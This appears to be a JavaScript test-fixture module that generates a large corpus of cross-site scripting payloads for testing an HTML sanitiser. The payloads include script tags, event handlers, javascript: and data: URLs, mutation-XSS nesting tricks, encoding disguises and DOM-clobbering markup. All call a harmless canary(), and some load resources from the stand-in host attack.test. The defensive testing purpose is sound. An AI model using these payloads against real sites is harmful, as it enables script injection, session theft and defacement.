// HTML that wants to act, for the sanitiser's tests: what acts by itself, and what it is hidden in.
// Whatever acts calls canary().

const acts = [
  `<script>canary()</script>`,
  `<script src=https://attack.test/x.js></script>`,
  `<img src=x: onerror=canary()>`,
  `<img/src/onerror=canary()//>`,
  `<svg onload=canary()>`,
  `<svg><script>canary()</script></svg>`,
  `<svg><animate onbegin=canary() attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.canary()</script>"></iframe>`,
  `<iframe src=javascript:parent.canary()></iframe>`,
  `<iframe src=https://attack.test/frame></iframe>`,
  `<video><source onerror=canary()></video>`,
  `<audio src=x: onerror=canary()>`,
  `<input autofocus onfocus=canary()>`,
  `<details open ontoggle=canary()><summary>x</summary></details>`,
  `<style onload=canary()>@import "https://attack.test/x.css";</style>`,
  `<link rel=stylesheet href=https://attack.test/x.css onload=canary()>`,
  `<object data=javascript:canary()></object>`,
  `<embed src=https://attack.test/x.swf>`,
  `<meta http-equiv=refresh content="0;url=https://attack.test/">`,
  `<base href=https://attack.test/><a href=x>y</a>`,
  `<form action=https://attack.test/><button autofocus onfocus=canary()>x</button></form>`,
  `<a href=javascript:canary()>x</a>`,
  `<p style="background:url(https://attack.test/x)">x</p>`,
  `<body onload=canary()>`,
  `<template><img src=x: onerror=canary()></template>`,
];

// %s is where it stands; what is around it changes how a parser reads it.
const hides = [
  `%s`,
  `<p>%s`,
  `</p>%s`,
  `<math><mtext><table><mglyph><style><!--</style>%s`,
  `<math><mtext><table><mglyph><style><math>%s`,
  `<math><annotation-xml encoding=text/html><style>%s</style>`,
  `<math><annotation-xml encoding="text/html"><p>%s`,
  `<math><mi><table><mglyph><nolink>%s`,
  `<form><math><mtext></form><form><mglyph><style></math>%s`,
  `<svg></p><style><a id="</style>%s">`,
  `<svg><desc><style>%s`,
  `<svg><foreignObject>%s</foreignObject></svg>`,
  `<svg><title><style>%s`,
  `<svg><![CDATA[>]]>%s`,
  `<svg></br>%s`,
  `<svg><font color=x>%s`,
  `<noscript><p title="</noscript>%s">`,
  `<noscript>%s</noscript>`,
  `<title>&lt;/title&gt;</title><title></title>%s`,
  `<textarea></textarea>%s`,
  `<xmp><p title="</xmp>%s">`,
  `<noembed><p title="</noembed>%s">`,
  `<noframes><p title="</noframes>%s">`,
  `<iframe><p title="</iframe>%s">`,
  `<plaintext>%s`,
  `<select><option>%s</select>`,
  `<select><template><style><!--</style>%s`,
  `<table><tr><td>%s`,
  `<table>%s`,
  `<table><caption><svg>%s`,
  `<a><b><p>%s</a></b>`,
  `<!--><p>-->%s`,
  `<!--->%s-->`,
  `<!-- --!>%s`,
  `<![CDATA[%s]]>`,
  `<?xml %s ?>`,
  `</%s>`,
  `<p title='%s`,
  `<p title="%s">`,
  `<img alt="x\`<!-->%s">`,
  `<abbr title="--&gt;&lt;/abbr&gt;">%s</abbr>`,
  `<pre>\n\n%s</pre>`,
  `<pre><!-- \n -->\n%s</pre>`,
  `<template shadowrootmode=open>%s</template>`,
  `<ruby><rtc><rt>%s`,
  `<frameset>%s`,
  `\ufeff%s`,
  `<x-y is=p>%s`,
  `<marquee loop=1>%s</marquee>`,
  `<object><param name=x><embed>%s</object>`,
  `<b `.repeat(40) + `>%s`,
  `<div>`.repeat(300) + `%s`,
  `<b><i>`.repeat(80) + `<p>%s</b></i>`.repeat(1),
  `<a href="https://example.org/"%s>`,
  `<a href='https://example.org/?"onclick="canary()"%s'>x</a>`,
];

// What is written about rather than written out: escapes that one decoding too many would undo.
const escape = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
const numeric = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join("");
const writes = [escape, (text) => escape(escape(text)), numeric, (text) => text.replace("<", "<\0")];

// Addresses with a scheme that acts, as they are disguised.
const schemes = [
  "javascript:canary()", "JaVaScRiPt:canary()", " javascript:canary()", "java\tscript:canary()",
  "java\nscript:canary()", "\x01javascript:canary()", "\x0bjavascript:canary()",
  "\u00a0javascript:canary()", "&#106;avascript:canary()", "&#x6A&#x61vascript:canary()",
  "java&Tab;script:canary()", "java&NewLine;script:canary()", "javascript&colon;canary()",
  "javascript&#58canary()", "java\0script:canary()", "\u2028javascript:canary()",
  "javascript://example.org/%0Acanary()", "javascript:\"\\74script>\"", "vbscript:canary()",
  "data:text/html,<script>canary()</script>", "DATA:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=canary()>", "feed:javascript:canary()", "view-source:javascript:1",
  "blob:https://example.org/1", "filesystem:https://example.org/x", "file:///etc/passwd",
  "about:blank", "ws://attack.test/", "jar:https://attack.test!/", "ms-its:x", "x:y", "//\\attack",
  "mailto:a@example.org?body=<script>", "mailto:javascript:canary()@x", "ｊavascript:canary()",
];
const carries = [
  `<a href="%s">x</a>`, `<a href='%s'>x</a>`, `<a href=%s>x</a>`, `<a xlink:href="%s">x</a>`,
  `<img src="%s">`, `<img src=y data-src="%s">`, `<img srcset="%s 2x">`, `<img data-src="%s">`,
  `<area href="%s">`, `<q cite="%s">x</q>`, `<blockquote cite="%s">x</blockquote>`,
  `<del cite="%s">x</del>`, `<table background="%s"><td background="%s">x`, `<a ping="%s" href=y>x</a>`,
  `<svg><a href="%s"><text>x`, `<svg><use href="%s">`, `<math><mi href="%s">x`,
  `<form action="%s"><input type=submit formaction="%s">`, `<time datetime="%s">x</time>`,
  `<p lang="%s" dir="%s">x</p>`, `<ol start="%s"><li value="%s">x`, `<img longdesc="%s" src=y>`,
];

// An attribute that acts, as its name is disguised.
const names = ["onclick", "ONCLICK", "OnMouseOver", "on\u00ADclick", "\u00A0onclick", "onclick\0", "\0onclick",
  "/onclick", "=onclick", "\"onclick", "x:onclick", "onclick\u2028", "onclick\t", "on click"];
const wearers = ["p", "a href=y", "img src=y", "td", "table", "ol", "time", "abbr", "li", "h1", "svg", "math",
  "x-y", "br", "hr", "pre", "section", "font"];

function fill(form, what) {
  return form.replaceAll("%s", () => what);
}

function all(forms, whats) {
  return forms.flatMap((form) => whats.map((what) => fill(form, what)));
}

const single = [
  `<a id=config name=body href=x>x</a><img name=cookie src=x><p id=innerHTML class=front>x</p>`,
  `<input name=parentNode><input name=nodeName><form id=x><input name=attributes></form>`,
  `<a href=https://example.org/ target=_blank onclick=canary()>x</a>`,
  `<scr<script>ipt>canary()</scr</script>ipt>`,
  `<<script>canary()//<</script>`,
  `<script\x00>canary()</script\x00>`,
  `<ScRiPt/x>canary()</sCrIpT >`,
  `<script`,
  `<img src="x: onerror=canary()//`,
  `<img src=x:\x0conerror=canary()>`,
  `<img src='x:'onerror='canary()'>`,
  `<a href="x"title="y"onclick="canary()">x</a>`,
  `<img src=https://attack.test/p.gif width=1 height=1>`,
  `<p>\x3c\u200bscript>canary()</script>`,
  `+ADw-script+AD4-canary()+ADw-/script+AD4-`,
  `\u00bcscript\u00becanary()\u00bc/script\u00be`,
  `<p>&lt;script&gt;canary()&lt;/script&gt;`,
  `<p title="&quot; onclick=&quot;canary()">x</p>`,
  `<p lang='x" onclick="canary()'>x</p>`,
  `<a href='https://example.org/"onclick="canary()'>x</a>`,
  `<a href="https://example.org/&quot;&gt;&lt;script&gt;canary()&lt;/script&gt;">x</a>`,
  `<a href="https://example.org/<script>canary()</script>">x</a>`,
  `<img alt='"><script>canary()</script>' src=y>`,
  `<img title='"onload="canary()' src=y>`,
  `<svg><style><img src="</style><img src=x: onerror=canary()//">`,
  `<math><style><img src="</style><img src=x: onerror=canary()//">`,
  `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=x:&Tab;onerror=canary()&gt;">`,
  `<svg><p><style><!--</style><img src=x: onerror=canary()>--></style>`,
  `<form><p></form><form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=canary()>`,
  `<table><colgroup><style><!--</style></colgroup><img src=x: onerror=canary()>-->`,
  `<p><svg><desc></p><style><p title="</style><img src=x: onerror=canary()>">`,
  `<a href=x><table><a href=y><tr><td><a href=z>x`,
  `<h1><h2><h3><p><p><dd><dt><li></h1><script>canary()</script>`,
  `<caption><col><tr><td><th><tbody><script>canary()</script>`,
  `<b><p><b><p><b><p></b></p></b><script>canary()</script>`,
];

export const attacks = [...new Set([
  ...all(hides, acts),
  ...writes.flatMap((write) => acts.map(write)),
  ...all(carries, schemes),
  ...wearers.flatMap((element) => names.map((name) => `<${element} ${name}=canary()>x`)),
  ...single,
])];

// What acts in a browser when nobody takes it out: whoever looks for acts must find these.
export const armed = acts;
